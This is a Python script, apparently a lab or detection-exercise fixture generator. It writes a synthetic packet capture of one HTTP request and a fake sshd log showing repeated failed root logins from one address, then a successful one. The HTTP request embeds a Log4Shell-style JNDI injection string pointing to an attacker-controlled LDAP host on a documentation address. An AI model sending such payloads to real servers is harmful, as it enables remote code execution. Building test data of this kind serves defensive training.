#!/usr/bin/env python3
"""attack.py FOLDER: writes web.pcap (one HTTP request with a JNDI lookup, addresses of RFC 5737) and auth.log (a password
guessed from one address until it fits)."""
import struct
import sys

folder = sys.argv[1]
SRC, DST = bytes([198, 51, 100, 7]), bytes([192, 0, 2, 80])


def checksum(b):
    b += b"\0" * (len(b) % 2)
    s = sum(struct.unpack(">%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def packet(src, dst, sport, dport, seq, ack, flags, data=b""):
    tcp = struct.pack(">HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    pseudo = src + dst + struct.pack(">BBH", 0, 6, len(tcp) + len(data))
    tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp + data)) + tcp[18:]
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp) + len(data), 1, 0, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    return bytes([2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0]) + ip + tcp + data


request = b"GET /?q=${jndi:ldap://198.51.100.7:1389/a} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: x\r\n\r\n"
answer = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
SYN, ACK, PSH, FIN = 2, 16, 8, 1
q, a = 1000, 5000
talk = [
    packet(SRC, DST, 40000, 80, q, 0, SYN),
    packet(DST, SRC, 80, 40000, a, q + 1, SYN | ACK),
    packet(SRC, DST, 40000, 80, q + 1, a + 1, ACK),
    packet(SRC, DST, 40000, 80, q + 1, a + 1, PSH | ACK, request),
    packet(DST, SRC, 80, 40000, a + 1, q + 1 + len(request), PSH | ACK, answer),
    packet(SRC, DST, 40000, 80, q + 1 + len(request), a + 1 + len(answer), FIN | ACK),
    packet(DST, SRC, 80, 40000, a + 1 + len(answer), q + 2 + len(request), FIN | ACK),
]
with open(folder + "/web.pcap", "wb") as f:
    f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
    for i, p in enumerate(talk):
        f.write(struct.pack("<IIII", 1700000000, 1000 * i, len(p), len(p)) + p)

with open(folder + "/auth.log", "w") as f:
    for i in range(30):
        f.write("2023-11-14T22:%02d:%02d+00:00 web sshd[%d]: Failed password for root from 203.0.113.9 port %d ssh2\n"
                % (14 + i // 30, 2 * (i % 30), 900 + i, 50000 + i))
    f.write("2023-11-14T22:15:30+00:00 web sshd[990]: Accepted password for root from 203.0.113.9 port 50100 ssh2\n")
